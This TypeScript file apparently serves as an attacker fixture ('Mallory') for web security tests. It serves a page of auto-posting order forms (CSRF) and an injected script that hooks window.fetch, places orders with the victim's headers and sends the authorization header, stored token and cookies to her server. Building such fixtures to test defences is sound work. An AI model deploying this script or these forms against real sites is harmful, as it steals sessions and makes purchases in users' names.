import type { RequestListener } from 'node:http'

/** What Mallory has on the web: a script, a page with forms, and ears. Her server answers to every name. */
export function createMallory() {
  let [loot, cookies] = ['', '']
  let forms: readonly string[] = []
  const handler: RequestListener = async (req, res) => {
    for await (const chunk of req) loot += chunk
    cookies = req.headers.cookie ?? ''
    const script = req.url === '/script.js'
    res.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html' })
    res.end(script ? theScript : `<!doctype html><title>Win a prize</title>${forms.join('')}`)
  }
  return {
    handler,
    /** Puts forms into her page that order for her. */
    aimAt(shops: readonly string[]) {
      forms = shops.map((url) => `<form method="post" action="${url}/order?for=mallory"></form>`)
    },
    /** The token, where her script has sent one home since she looked last. */
    takeToken(): string | undefined {
      const [token] = /eyJ[\w.-]+/.exec(loot) ?? []
      loot = ''
      return token
    },
    /** The cookies that a browser brought along when it came last. */
    cookies: () => cookies,
  }
}

/** It waits until the page asks for something. Then it orders in the same way, and sends home what it can read. */
const theScript = `
  const own = window.fetch
  const home = document.currentScript.src
  window.fetch = async (url, options = {}) => {
    const { headers = {} } = options
    await own('/order?for=mallory', { method: 'POST', headers })
    const body = [headers.authorization, localStorage.token, document.cookie].join()
    await own(home, { method: 'POST', mode: 'no-cors', body })
    return await own(url, options)
  }`
